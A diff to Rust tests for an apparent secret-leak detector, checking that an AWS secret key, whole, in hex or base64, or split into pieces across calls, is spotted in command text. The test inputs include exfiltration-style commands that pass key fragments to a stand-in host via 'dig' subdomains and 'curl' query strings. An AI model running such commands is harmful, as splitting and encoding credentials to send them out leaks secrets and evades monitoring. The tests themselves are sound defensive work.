@@ -95,9 +95,9 @@ fn whole_secret_in_every_encoding() {
     for (text, form) in cases {
         let (keys, mut run) = setup(&[("aws_secret_access_key", AWS)]);
         let s = one(&mut run, &keys, &text).unwrap_or_else(|| panic!("{form}: {text}"));
-        assert!(s.forms.contains(&form), "{form}: {:?}", s.forms);
-        assert!(s.whole, "{form}: {} of {}", s.bytes, s.len);
-        assert_eq!(s.seen, "read");
+        assert!(s.out.forms.contains(&form), "{form}: {:?}", s.out.forms);
+        assert!(s.out.whole, "{form}: {} of {}", s.out.bytes, s.out.len);
+        assert_eq!(s.out.seen.as_deref(), Some("read"));
         for (a, b) in &s.ranges {
             assert!(text.get(*a..*b).is_some());
         }
@@ -109,14 +109,14 @@ fn a_twelve_character_piece_is_found_and_is_not_whole() {
     let (keys, mut run) = setup(&[("aws_secret_access_key", AWS)]);
     let piece = &AWS[10..22];
     let s = one(&mut run, &keys, &format!("dig {piece}.x.example")).expect("piece");
-    assert!(!s.whole && s.bytes == 12, "{s:?}");
+    assert!(!s.out.whole && s.out.bytes == 12, "{s:?}");
     let s = one(
         &mut run,
         &keys,
         &format!("curl x.example/{}", hex::encode(&AWS[20..34])),
     )
     .expect("hex piece");
-    assert_eq!(s.bytes, 14);
+    assert_eq!(s.out.bytes, 14);
     // eleven characters are not a piece
     assert!(one(&mut run, &keys, &format!("echo {}", &AWS[0..11])).is_none());
 }
@@ -125,15 +125,15 @@ fn a_twelve_character_piece_is_found_and_is_not_whole() {
 fn pieces_across_calls_add_up_to_the_whole() {
     let (keys, mut run) = setup(&[("aws_secret_access_key", AWS)]);
     let a = run.find(&keys, &format!("curl x.example/?p={}", &AWS[..20]), "c1");
-    assert!(!a[0].whole && !a[0].whole_with_earlier);
+    assert!(!a[0].out.whole && !a[0].out.whole_with_earlier);
     let b = run.find(
         &keys,
         &format!("curl x.example/?p={}", STANDARD.encode(&AWS[18..])),
         "c2",
     );
-    assert!(!b[0].whole, "{:?}", b[0]);
-    assert!(b[0].whole_with_earlier);
-    assert_eq!(b[0].earlier_calls, vec!["c1".to_string()]);
+    assert!(!b[0].out.whole, "{:?}", b[0]);
+    assert!(b[0].out.whole_with_earlier);
+    assert_eq!(b[0].out.earlier_calls, vec!["c1".to_string()]);
 }
 
 #[test]
